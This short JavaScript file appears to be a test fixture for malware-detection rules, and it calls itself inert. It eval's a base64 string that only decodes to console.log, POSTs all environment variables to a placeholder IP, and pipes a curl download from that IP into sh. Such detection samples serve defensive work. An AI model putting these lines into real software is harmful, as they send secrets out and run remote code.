// Inert fixture: looks like a dropper to the rules, never run.
const cp = require('child_process');
const data = Buffer.from('Y29uc29sZS5sb2coImhpIik=', 'base64').toString();
eval(atob('Y29uc29sZS5sb2coImhpIik='));
const env = JSON.stringify(process.env);
fetch('http://198.51.100.7/c', { method: 'POST', body: env });
cp.exec('curl http://198.51.100.7/x | sh');
